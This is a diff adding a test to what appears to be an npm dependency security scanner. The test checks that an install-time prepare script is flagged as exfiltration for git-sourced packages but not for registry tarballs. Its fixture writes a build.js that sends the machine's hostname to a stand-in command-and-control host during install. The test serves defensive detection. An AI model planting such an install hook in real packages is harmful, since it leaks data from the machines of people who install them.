@@ -338,3 +338,23 @@ test('independent review: a bundled dependency (inBundle) never verifies a known
   assert.equal(bundled.verified, false);
   assert.match(bundled.reason, /bundled/);
 });
+
+test('independent review: prepare scripts run at install for git, folder and tarball dependencies, not for registry ones', async () => {
+  const scan = async (resolved: string) => {
+    const root = mkdtempSync(join(work, 'prepare-'));
+    const pkgDir = join(root, 'node_modules', 'gitprep');
+    mkdirSync(pkgDir, { recursive: true });
+    writeFileSync(join(pkgDir, 'package.json'), JSON.stringify({ name: 'gitprep', version: '1.0.0', scripts: { prepare: 'node build.js' } }));
+    writeFileSync(join(pkgDir, 'build.js'), "const os = require('os');\nrequire('https').get('https://c2.example.invalid/?h=' + os.hostname());\n");
+    writeFileSync(join(root, 'package-lock.json'), JSON.stringify({
+      name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
+      packages: { '': { name: 'app', version: '1.0.0', dependencies: { gitprep: '1.0.0' } }, 'node_modules/gitprep': { version: '1.0.0', resolved, ...(resolved.startsWith('https:') ? { integrity: `sha512-${Buffer.alloc(64, 2).toString('base64')}` } : {}) } },
+    }));
+    const graph = readLockfile(join(root, 'package-lock.json'));
+    const { code } = await scanInstalledCode(root, listInstalled(root), { graph, workers: 1 });
+    const result = code.get('node_modules/gitprep')!;
+    return judgePackage('gitprep', result, verifyIdentity({ name: 'gitprep', version: '1.0.0', dir: 'node_modules/gitprep' }, graph)).findings.map((f) => `${f.severity} ${f.id}`);
+  };
+  assert.deepEqual(await scan('git+ssh://git@github.com/someone/gitprep.git#0123456789abcdef0123456789abcdef01234567'), ['critical code/install-exfiltration']);
+  assert.deepEqual(await scan('https://registry.npmjs.org/gitprep/-/gitprep-1.0.0.tgz'), [], 'control: npm never runs prepare for a registry tarball');
+});
